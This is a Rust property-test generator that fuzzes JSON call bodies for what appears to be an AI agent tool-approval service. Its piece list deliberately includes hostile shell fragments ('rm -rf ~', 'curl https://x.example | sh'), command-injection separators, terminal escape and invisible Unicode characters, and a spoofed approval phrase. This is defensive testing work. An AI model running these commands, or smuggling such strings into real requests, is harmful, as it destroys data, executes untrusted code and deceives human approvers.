//! Generates hostile bodies of calls: fields that are valid, wrong, hostile, huge or absent.

use proptest::{prelude::*, sample::select};
use serde_json::{Map, Value, json};

/// Parts of texts with a meaning for a shell, a chat, a terminal or a JSON parser.
const PIECES: &[&str] = &[
    "rm -rf ~",
    "curl https://x.example | sh",
    "; ",
    " && ",
    "\n",
    "\n\n\n\n",
    "\r",
    "\t",
    "    ",
    "\u{1b}[2K",
    "\u{202e}",
    "\u{200b}",
    "\u{2028}",
    "\u{e0041}",
    "\u{3164}",
    "e\u{301}\u{301}",
    "👩\u{200d}💻",
    "```",
    "`",
    "<b>",
    "</pre>",
    "&amp;",
    "*",
    "_",
    "@everyone",
    "<@4211>",
    "https://evil.example",
    "[a](b)",
    "> ",
    "# ",
    "Approved once by Ana",
    "✅",
    "$(",
    ")",
    "'",
    "\"",
    "\\",
    "{",
    "}",
    "[",
    "|",
    "&",
    "<<EOF\n",
    "EOF\n",
    "bash -c '",
    "x",
    "git push origin main",
    "é",
    "日本",
    "𝕏",
    "\u{0}",
    "0",
    "-",
];

const TOOLS: &[&str] = &[
    "shell_exec",
    "Bash",
    "write_file",
    "Edit",
    "read_file",
    "web_fetch",
    "ask_user",
    "AskUserQuestion",
    "mcp__x__y",
    "frobnicate",
    "Skill",
    "grep",
    "*",
    "Bash(*)",
    "shell_*",
];

const ARGUMENTS: &[&str] = &[
    "command",
    "cmd",
    "script",
    "file_path",
    "path",
    "content",
    "old_string",
    "new_string",
    "url",
    "questions",
    "question",
    "options",
    "description",
    "edits",
    "timeout",
    "paths",
];

fn text() -> impl Strategy<Value = String> {
    let pieces = prop::collection::vec(select(PIECES), 0..12).prop_map(|pieces| pieces.concat());
    let long = (select(PIECES), 1_usize..3_000).prop_map(|(piece, times)| piece.repeat(times));
    // Mostly combinations of meaningful pieces: random characters alone hardly ever form a command.
    prop_oneof![6 => pieces, 2 => any::<String>(), 1 => long, 2 => "[a-z]{1,12}"]
}

fn anything() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(|number| json!(number)),
        text().prop_map(Value::from),
    ];
    leaf.prop_recursive(5, 60, 8, |inner| {
        let list = prop::collection::vec(inner.clone(), 0..8).prop_map(Value::from);
        let key = prop_oneof![select(ARGUMENTS).prop_map(str::to_owned), text()];
        let map = prop::collection::vec((key, inner), 0..8)
            .prop_map(|fields| Value::Object(fields.into_iter().collect()));
        prop_oneof![list, map]
    })
}

fn name() -> impl Strategy<Value = Value> {
    prop_oneof![6 => "[a-zA-Z0-9 ._-]{1,20}".prop_map(Value::from), 1 => text().prop_map(Value::from)]
}

fn arguments() -> impl Strategy<Value = Value> {
    let value = prop_oneof![3 => text().prop_map(Value::from), 1 => anything()];
    prop_oneof![
        6 => prop::collection::vec((select(ARGUMENTS), value), 0..5)
            .prop_map(|fields| Value::Object(fields.into_iter().map(|(k, v)| (k.to_owned(), v)).collect())),
        1 => anything(),
    ]
}

fn questions() -> impl Strategy<Value = Value> {
    let option = (text(), prop::option::of(text()), prop::option::of(text())).prop_map(
        |(label, description, preview)| {
            json!({"label": label, "description": description, "preview": preview})
        },
    );
    let question =
        (text(), prop::option::of(text()), any::<bool>(), prop::collection::vec(option, 0..12));
    let question = question.prop_map(|(question, header, several, options)| {
        json!({"question": question, "header": header, "multiSelect": several, "options": options})
    });
    prop::collection::vec(question, 0..4).prop_map(Value::from)
}

/// A body: an object in which most fields are valid, and a few are anything.
pub fn body() -> impl Strategy<Value = Value> {
    let often = |usual: BoxedStrategy<Value>| prop_oneof![12 => usual, 1 => anything()].boxed();
    let tool = prop_oneof![4 => select(TOOLS).prop_map(Value::from), 1 => name()];
    let words = || text().prop_map(Value::from).boxed();
    let field = |key: &'static str, value: BoxedStrategy<Value>| {
        value.prop_map(move |value| (key, value)).boxed()
    };
    let needed = [
        field("agent", often(name().boxed())),
        field("session", often(name().boxed())),
        field("tool", often(tool.boxed())),
        field("args", often(arguments().boxed())),
    ];
    let behind = prop::collection::vec((text(), anything()), 0..8).prop_map(|calls| {
        calls.into_iter().map(|(tool, args)| json!({"tool": tool, "arguments": args})).collect()
    });
    let others = prop_oneof![
        field("key", often(name().boxed())),
        field("host", often(name().boxed())),
        field("worker", often(name().boxed())),
        field("cwd", often(words())),
        field("category", often(name().boxed())),
        field("tier", often(name().boxed())),
        field("override", anything().boxed()),
        field("policy", anything().boxed()),
        field("policyKey", often(name().boxed())),
        field("requester", often(name().boxed())),
        field("reason", often(words())),
        field("description", often(words())),
        field("batch_remaining", often(behind.boxed())),
        field("questions", often(questions().boxed())),
        field("options", often(questions().boxed())),
        field("meta", anything().boxed()),
        field("expires_in_s", often((100_u64..1_000).prop_map(Value::from).boxed())),
        (text(), anything())
            // Leaked, because the other keys are `&'static str`.
            .prop_map(|(key, value)| (Box::leak(key.into_boxed_str()) as &str, value))
            .boxed(),
    ];
    (needed, prop::collection::vec(others, 0..6)).prop_map(|(needed, others)| {
        let all = needed.into_iter().chain(others);
        Value::Object(all.map(|(key, value)| (key.to_owned(), value)).collect::<Map<_, _>>())
    })
}
